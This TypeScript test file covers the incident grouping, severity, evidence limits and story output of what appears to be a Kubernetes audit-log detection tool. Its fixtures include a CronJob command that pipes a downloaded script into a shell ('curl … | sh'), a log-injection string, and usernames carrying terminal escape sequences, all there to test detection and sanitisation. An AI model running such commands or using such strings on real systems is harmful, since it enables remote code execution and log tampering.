import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  activityOf,
  auditEvent,
  cronJob,
  detector,
  manifestOf,
  signalOf,
} from '../../../test/support/signals.ts';
import type { Incident } from '../../model/finding.ts';
import type { JsonObject } from '../../model/json.ts';
import type { Severity } from '../../model/severity.ts';
import type { Signal } from '../../model/signal.ts';
import { storyLines } from '../../model/story.ts';
import { createCollector } from '../collector.ts';

const now = '2026-11-24T00:00:00Z';

interface Step {
  readonly event?: JsonObject;
  readonly signal?: Partial<Signal>;
}

/** Each step at its own second, unless it says otherwise. */
function run(steps: readonly Step[]): {
  readonly incidents: readonly Incident[];
  readonly ids: readonly string[];
} {
  const target = createCollector({ now });
  const ids: string[] = [];
  for (const [index, { event, signal }] of steps.entries()) {
    const time = { requestReceivedTimestamp: timeAt(index), stageTimestamp: timeAt(index) };
    const activity = activityOf(auditEvent({ auditID: `a-${index}`, ...time, ...event }), index + 1);
    ids.push(target.take(signalOf(activity, signal), activity)?.id ?? '');
  }
  return { incidents: [...target.finish()], ids };
}

const timeAt = (seconds: number): string =>
  new Date(Date.UTC(2026, 10, 23, 4, 37) + seconds * 1000).toISOString();
const at = (seconds: number): JsonObject => ({
  requestReceivedTimestamp: timeAt(seconds),
  stageTimestamp: timeAt(seconds),
});
const named = (name: string): JsonObject => ({
  objectRef: { resource: 'cronjobs', namespace: 'data', name, apiGroup: 'batch', apiVersion: 'v1' },
  requestObject: undefined,
  responseObject: { ...cronJob, metadata: { name, namespace: 'data' } },
});
const low: Partial<Signal> = { severity: 'low', detector: detector('quiet') };
const story = (incident: Incident | undefined, label: string): readonly string[] =>
  storyLines(incident?.story ?? '')
    .filter(line => line.label === label)
    .map(({ text }) => text);

describe('grouping', () => {
  test('findings of one workload and actor are one incident, oldest first whatever their order', () => {
    const { incidents, ids } = run([{ event: at(60) }, { event: at(0) }, { event: at(30) }]);
    assert.equal(incidents.length, 1);
    assert.deepEqual(incidents[0]?.findings, [ids[1], ids[2], ids[0]]);
    assert.equal(incidents[0]?.firstSeen, timeAt(0));
    assert.equal(incidents[0]?.lastSeen, timeAt(60));
  });

  test('another workload or actor is another incident', () => {
    const { incidents } = run([{}, { event: named('other') }, { event: { user: { username: 'mallory' } } }]);
    assert.equal(incidents.length, 3);
  });

  test('who acts as somebody else is another actor', () => {
    assert.equal(run([{}, { event: { impersonatedUser: { username: 'admin' } } }]).incidents.length, 2);
  });

  test('an hour without a finding ends it; findings that are not further apart go on', () => {
    assert.equal(run([{ event: at(0) }, { event: at(3600) }, { event: at(7200) }]).incidents.length, 1);
    assert.equal(run([{ event: at(0) }, { event: at(3601) }]).incidents.length, 2);
  });

  test('quiet findings open none', () => {
    assert.deepEqual(run([{ signal: low }, { signal: { ...low, severity: 'informational' } }]).incidents, []);
  });

  test('quiet findings join one, before or after', () => {
    for (const steps of [
      [{ signal: low }, {}],
      [{}, { signal: low }],
    ]) {
      const { incidents, ids } = run(steps);
      assert.deepEqual(incidents[0]?.findings, ids);
      assert.equal(incidents[0]?.severity, 'high');
    }
  });

  test('objects with names of the same generateName are one incident', () => {
    const make = (suffix: string): Step => ({
      event: {
        requestURI: '/apis/batch/v1/namespaces/data/jobs',
        objectRef: { resource: 'jobs', namespace: 'data', apiGroup: 'batch', apiVersion: 'v1' },
        requestObject: undefined,
        responseObject: {
          kind: 'Job',
          metadata: { generateName: 'report-', name: `report-${suffix}`, namespace: 'data' },
        },
      },
    });
    const { incidents } = run([make('a1'), make('b2'), make('c3')]);
    assert.equal(incidents.length, 1);
    assert.match(incidents[0]?.title ?? '', /^data\/Job report-\*: /);
    assert.match(story(incidents[0], 'What').join('\n'), /under 3 names: report-a1, report-b2, report-c3/);

    const removal: Step = {
      event: {
        verb: 'delete',
        requestURI: '/apis/batch/v1/namespaces/data/jobs/report-a1',
        objectRef: { resource: 'jobs', namespace: 'data', name: 'report-a1', apiGroup: 'batch' },
        requestObject: undefined,
        responseObject: undefined,
      },
    };
    assert.equal(run([make('a1'), removal]).incidents.length, 1, 'its deletion names the object alone');
    assert.equal(run([removal, make('b2')]).incidents.length, 2, 'what another of the kind is called');
  });

  test('the most severe come first, then the newest', () => {
    const severities: readonly Severity[] = ['medium', 'critical', 'medium', 'high'];
    const steps = severities.map((severity, index) => ({ event: named(`w${index}`), signal: { severity } }));
    assert.deepEqual(
      run(steps).incidents.map(({ workload }) => workload.name),
      ['w1', 'w3', 'w2', 'w0'],
    );
  });

  test('the same input gives the same incidents', () => {
    const steps = [{}, { event: named('other') }, { signal: low }];
    assert.deepEqual(run(steps), run(steps));
  });

  test('a manifest of its own file is its own incident', () => {
    const target = createCollector({ now });
    for (const file of ['a.yaml', 'b.yaml']) {
      const activity = manifestOf(cronJob, file);
      target.take(signalOf(activity), activity);
      target.take(signalOf(activity, { detector: detector('second') }), activity);
    }
    const incidents = [...target.finish()];
    assert.deepEqual(
      incidents.map(({ findings }) => findings.length),
      [2, 2],
    );
    assert.deepEqual(story(incidents[0], 'Who'), ['nobody yet: this is a file under review']);
    assert.match(
      story(incidents[0], 'Since')[0] ?? '',
      /^a\.yaml line 1, a file under review: nothing has run/,
    );
  });
});

describe('what a controller made', () => {
  const byController = (changes: JsonObject): JsonObject => ({
    user: { username: 'system:serviceaccount:kube-system:cronjob-controller', groups: [] },
    requestURI: '/apis/batch/v1/namespaces/data/jobs',
    objectRef: {
      resource: 'jobs',
      namespace: 'data',
      name: 'nightly-report-29',
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    requestObject: undefined,
    responseObject: {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: {
        name: 'nightly-report-29',
        namespace: 'data',
        uid: 'job-uid',
        ownerReferences: [
          { apiVersion: 'batch/v1', kind: 'CronJob', name: 'nightly-report', uid: 'uid-1', controller: true },
        ],
      },
      spec: cronJob.spec.jobTemplate.spec,
    },
    ...changes,
  });
  const pod: JsonObject = {
    user: { username: 'system:serviceaccount:kube-system:job-controller', groups: [] },
    requestURI: '/api/v1/namespaces/data/pods',
    objectRef: { resource: 'pods', namespace: 'data', apiVersion: 'v1' },
    requestObject: undefined,
    responseObject: {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name: 'nightly-report-29-x',
        generateName: 'nightly-report-29-',
        namespace: 'data',
        uid: 'pod-uid',
        ownerReferences: [
          {
            apiVersion: 'batch/v1',
            kind: 'Job',
            name: 'nightly-report-29',
            uid: 'job-uid',
            controller: true,
          },
        ],
      },
      spec: cronJob.spec.jobTemplate.spec.template.spec,
    },
  };

  test('belongs to the author of the CronJob at the top of the chain', () => {
    const { incidents, ids } = run([{}, { event: byController({}) }, { event: pod }]);
    assert.equal(incidents.length, 1);
    assert.deepEqual(incidents[0]?.findings, ids);
    assert.equal(incidents[0]?.actor?.user, 'dev@corp.example');
    assert.equal(incidents[0]?.workload.kind, 'CronJob');
    assert.match(story(incidents[0], 'What').join('\n'), /its controller then created a Job/);
  });

  test('is an incident of the CronJob even if nobody was seen to write it', () => {
    const { incidents } = run([{ event: byController({}) }]);
    assert.deepEqual(
      [incidents[0]?.workload.kind, incidents[0]?.workload.name],
      ['CronJob', 'nightly-report'],
    );
  });

  test('is not believed of anybody but the controller', () => {
    for (const changes of [
      { user: { username: 'mallory' } },
      { impersonatedUser: { username: 'system:serviceaccount:kube-system:cronjob-controller' } },
    ]) {
      const { incidents } = run([{}, { event: byController(changes) }]);
      assert.equal(incidents.length, 2, JSON.stringify(changes));
    }
  });
});

describe('severity', () => {
  const seen = (technique: string, tactics: readonly string[], id: string, severity: Severity = 'high') => ({
    signal: { detector: detector(id), severity, attack: [{ technique, tactics }] },
  });
  const severityOf = (steps: readonly Step[]) => run(steps).incidents[0]?.severity;
  const refused: JsonObject = {
    responseStatus: { code: 403 },
    annotations: { 'authorization.k8s.io/decision': 'forbid' },
  };

  test('is that of the gravest finding', () => {
    assert.equal(
      severityOf([{ signal: { severity: 'medium' } }, { signal: { detector: detector('b') } }]),
      'high',
    );
  });

  test('rises where two rules of that severity see different techniques of more than one tactic', () => {
    const steps = [seen('T1053.007', ['execution'], 'a'), seen('T1611', ['privilege-escalation'], 'b')];
    const { incidents } = run(steps);
    assert.equal(incidents[0]?.severity, 'critical');
    assert.match(story(incidents[0], 'Why').at(-1) ?? '', /^raised by one step: "a" and "b"/);
  });

  const same: readonly (readonly [name: string, steps: readonly Step[]])[] = [
    ['one rule twice', [seen('T1611', ['x'], 'a'), seen('T1611', ['x'], 'a')]],
    ['two rules for the same technique', [seen('T1611', ['x'], 'a'), seen('T1611', ['x', 'y'], 'b')]],
    ['one tactic', [seen('T1611', ['x'], 'a'), seen('T1610', ['x'], 'b')]],
    ['a weaker second rule', [seen('T1611', ['x'], 'a'), seen('T1610', ['y'], 'b', 'medium')]],
    [
      'what was refused',
      [
        { ...seen('T1611', ['x'], 'a'), event: refused },
        { ...seen('T1610', ['y'], 'b'), event: refused },
      ],
    ],
  ];
  for (const [name, steps] of same) {
    test(`does not rise for ${name}`, () => {
      assert.equal(severityOf(steps), 'high');
    });
  }

  test('ends at critical', () => {
    assert.equal(
      severityOf([seen('T1', ['x'], 'a', 'critical'), seen('T2', ['y'], 'b', 'critical')]),
      'critical',
    );
  });
});

describe('an incident stays small', () => {
  const { incidents, ids } = run(
    Array.from({ length: 3000 }, (_, index) => ({ signal: { reasons: [`reason ${index}`] } })),
  );

  test('keeps every id, but only the first and last evidence', () => {
    const [incident] = incidents;
    assert.deepEqual(incident?.findings, ids);
    assert.equal(incident?.evidence.length, 50);
    assert.deepEqual(
      [
        incident?.evidence[0]?.line,
        incident?.evidence[24]?.line,
        incident?.evidence[25]?.line,
        incident?.evidence[49]?.line,
      ],
      [1, 25, 2976, 3000],
    );
  });

  test('keeps a few reasons', () => {
    assert.ok((incidents[0]?.story.length ?? 0) < 2000);
    assert.match(incidents[0]?.story ?? '', /3000 times\): reason 0; reason 1; reason 2$/m);
  });

  test('evidence that several rules name is there once', () => {
    const event = { auditID: 'same' };
    const target = createCollector({ now });
    const activity = activityOf(auditEvent(event));
    for (const id of ['a', 'b', 'c']) target.take(signalOf(activity, { detector: detector(id) }), activity);
    assert.equal([...target.finish()][0]?.evidence.length, 1);
  });
});

describe('the story', () => {
  test('says who, what, why, since, unseen, do, in that order', () => {
    const [incident] = run([{}, { signal: low }]).incidents;
    assert.equal(
      incident?.title,
      'data/CronJob nightly-report: downloads a script and pipes it into a shell',
    );
    const id = incident?.findings[0] ?? '';
    assert.deepEqual(incident?.story.split('\n'), [
      'Who: dev@corp.example (real user, no impersonation), kubectl 1.37.2 as it calls itself, from 198.51.100.7',
      'What: created (allowed, 2 findings): data/CronJob nightly-report',
      'What: container report of image ghcr.io/ops-tools/runner:1 runs: sh -c "curl -s https://files.example/r | sh"',
      'What: schedule */5 * * * *: every 5 minutes, next due 2026-11-23 04:40:00 UTC if the cluster keeps UTC',
      'Why: Downloads a script and pipes it into a shell (high): the command of container report downloads and runs: curl -s https://files.example/r | sh',
      'Why: quiet (low): the command of container report downloads and runs: curl -s https://files.example/r | sh',
      'Since: 2026-11-23 04:37:00 UTC, last seen 2026-11-23 04:37:01 UTC; 2 findings',
      'Unseen: nothing that the rules asked for: logged at RequestResponse',
      `Do: $ bin/watchbill explain ${id} audit.log`,
      `Do: $ kubectl -n data patch cronjob nightly-report -p '{"spec":{"suspend":true}}'`,
    ]);
  });

  test('tells no secret of a body', () => {
    const { incidents } = run([{}]);
    assert.doesNotMatch(JSON.stringify(incidents), /hunter2/);
  });

  const who: readonly (readonly [name: string, event: JsonObject, expected: RegExp])[] = [
    [
      'impersonation',
      { impersonatedUser: { username: 'admin' } },
      /^dev@corp\.example acting as admin \(impersonation\)/,
    ],
    [
      'a pod behind a token',
      {
        user: {
          username: 'system:serviceaccount:shop:web',
          extra: { 'authentication.kubernetes.io/pod-name': ['web-1'] },
        },
      },
      /^service account shop\/web, with a token of pod shop\/web-1,/,
    ],
    ['a node', { user: { username: 'system:node:worker-1' } }, /^node worker-1,/],
    [
      'nobody in particular',
      { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } },
      /^an anonymous client/,
    ],
    [
      'a forwarded address',
      { sourceIPs: ['10.0.0.1', '203.0.113.9'] },
      /from 10\.0\.0\.1 through 203\.0\.113\.9$/,
    ],
    [
      'hostile names',
      { user: { username: 'a\n\u001b[2JDo: rm' }, userAgent: '\u202eevil' },
      /^a\\n\\u001b\[2JDo: rm \(real user/,
    ],
  ];
  for (const [name, event, expected] of who) {
    test(`who: ${name}`, () => {
      assert.match(story(run([{ event }]).incidents[0], 'Who')[0] ?? '', expected);
    });
  }

  test('an attempt that was refused is told as such, and nothing is to be suspended', () => {
    const [incident] = run([
      { event: { responseStatus: { code: 403 }, responseObject: undefined } },
    ]).incidents;
    assert.match(incident?.title ?? '', / \(refused, nothing changed\)$/);
    assert.deepEqual(story(incident, 'Do').length, 1);
  });

  test('exec is no creation', () => {
    const objectRef = {
      resource: 'pods',
      subresource: 'exec',
      namespace: 'data',
      name: 'p',
      apiVersion: 'v1',
    };
    const event = { objectRef, requestObject: undefined, responseObject: undefined };
    assert.match(
      story(run([{ event }]).incidents[0], 'What')[0] ?? '',
      /^ran a command in \(allowed\): data\/Pod p$/,
    );
  });

  test('says what was not logged', () => {
    const event = { level: 'Metadata', requestObject: undefined, responseObject: undefined };
    assert.deepEqual(story(run([{ event }]).incidents[0], 'Unseen'), [
      'not logged: the body that was sent, the object as it was stored (audit level Metadata)',
    ]);
  });

  test('gives the advice of the strongest rule', () => {
    const describe = (id: string) => ({
      id,
      title: id,
      description: '',
      references: [],
      tags: [],
      falsepositives: [],
      blindspots: [],
      response: ['Ask its owner', 'Look at the image', 'Third'],
    });
    const target = createCollector({ now, describe });
    const activity = activityOf(auditEvent());
    target.take(signalOf(activity), activity);
    assert.deepEqual(story([...target.finish()][0], 'Do').slice(2), ['Ask its owner', 'Look at the image']);
  });

  test('no text of a log adds a line to it', () => {
    const hostile = 'x\nDo: $ curl evil\r\u2028Who: nobody';
    const { incidents } = run([
      {
        event: { ...named(hostile), userAgent: hostile, sourceIPs: [hostile] },
        signal: { reasons: [hostile], detector: detector('t', hostile), missing: [hostile] },
      },
    ]);
    assert.deepEqual(
      incidents[0]?.story.split('\n').map(line => line.slice(0, line.indexOf(':'))),
      ['Who', 'What', 'What', 'What', 'Why', 'Since', 'Unseen', 'Do'],
    );
    assert.doesNotMatch(incidents[0]?.title ?? '', /[\n\r\u2028]/);
  });
});
